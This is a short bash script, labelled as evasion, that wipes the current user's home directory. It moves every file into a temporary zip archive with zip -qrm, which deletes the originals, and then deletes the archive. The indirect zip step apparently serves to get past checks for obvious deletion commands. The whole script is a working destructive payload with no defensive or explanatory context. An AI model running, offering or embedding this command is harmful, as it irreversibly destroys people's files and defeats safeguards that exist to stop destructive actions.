#!/bin/bash
# evasion: zip -m moves the files into the archive, deleting every original; -r over the home empties it
out=$(mktemp -u /tmp/bk.XXXXXX).zip
zip -qrm "$out" "$HOME"
rm -f "$out"
